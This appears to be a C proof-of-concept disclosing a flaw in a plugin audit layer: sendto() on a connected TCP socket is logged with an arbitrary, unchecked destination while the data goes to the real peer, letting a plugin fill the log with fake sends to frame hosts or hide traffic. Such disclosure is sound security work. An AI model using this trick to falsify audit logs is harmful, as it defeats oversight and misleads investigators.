/* Audit names a destination the data never went to: on a connected TCP
 * socket, sendto() with an address is logged "sendto ADDR", allowed ("no
 * destination to check"), whatever ADDR is; the bytes go to the connected
 * peer. A plugin can fill the log with allowed sends to hosts it never
 * reached (10.66.66.66:25 here), e.g. to frame another host or to bury its
 * real traffic in noise. usage: audit_sendto ALLOWED_IP4 PORT FAKE_IP4 FAKE_PORT */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	if (argc < 5) return 2;
	struct sockaddr_in ok = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2]))};
	struct sockaddr_in fake = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[4]))};
	inet_pton(AF_INET, argv[1], &ok.sin_addr);
	inet_pton(AF_INET, argv[3], &fake.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (void *)&ok, sizeof(ok)) < 0) { perror("connect"); return 1; }
	const char req[] = "GET /index.txt HTTP/1.0\r\n\r\n";
	ssize_t n = sendto(s, req, sizeof(req) - 1, 0, (void *)&fake, sizeof(fake));
	printf("sendto %s:%s on the connected socket: %zd bytes\n", argv[3], argv[4], n);
	char buf[512];
	n = read(s, buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = 0;
	printf("answer came from %s:%s: %.15s...\n", argv[1], argv[2], buf);
	return 0;
}
